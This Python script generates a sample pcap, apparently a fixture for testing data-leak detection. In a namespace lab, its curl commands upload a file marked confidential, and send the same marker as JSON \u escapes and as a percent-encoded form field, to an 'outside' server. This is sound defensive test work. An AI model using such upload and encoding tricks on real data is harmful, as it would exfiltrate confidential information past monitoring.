#!/usr/bin/env python3
"""Record pcaps/sample-leak-http.pcap: real curl uploads to a real Python HTTP server.

Run as root (network namespaces): ``python3 pcaps/make_sample.py``. The client namespace
(10.77.0.1) is the protected side; the server (10.77.0.2) is "outside". Flows:
  1. GET / (benign page)
  2. multipart upload of 図面一覧.txt (Shift_JIS text carrying 「保護すべき情報」)
  3. JSON API post with the marker as \\uXXXX escapes
  4. form post (urlencoded, percent-encoded UTF-8 marker)
"""

from __future__ import annotations

import os
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from pcaps.lab import Lab  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "sample-leak-http.pcap")
MARKER = "保護すべき情報"


def main() -> None:
    tmp = tempfile.mkdtemp()
    doc = os.path.join(tmp, "図面一覧.txt")
    with open(doc, "wb") as fh:
        fh.write(("図面一覧 (第3版)\r\n本書は" + MARKER + "を含む。社外への持ち出しを禁ずる。\r\n").encode("cp932"))
    json_body = '{"title": "週報", "body": "' + "".join(f"\\u{ord(c):04x}" for c in MARKER) + 'に関する報告"}'
    with Lab("sample") as lab:
        lab.server(["python3", os.path.join(HERE, "upload_server.py"), lab.server_ip, "8080"])
        lab.wait_port(8080)
        with lab.capture(OUT, bpf="tcp port 8080"):
            base = f"http://{lab.server_ip}:8080"
            lab.client(["curl", "-s", "-o", "/dev/null", f"{base}/index.html"])
            lab.client(["curl", "-s", "-o", "/dev/null", "-F", f"file=@{doc};type=text/plain", f"{base}/upload"])
            lab.client(["curl", "-s", "-o", "/dev/null", "-H", "Content-Type: application/json",
                        "--data-binary", json_body, f"{base}/api/v1/notes"])
            lab.client(["curl", "-s", "-o", "/dev/null", "--data-urlencode", f"comment={MARKER}の件", f"{base}/form"])
    os.chmod(OUT, 0o644)
    print(OUT)


if __name__ == "__main__":
    main()
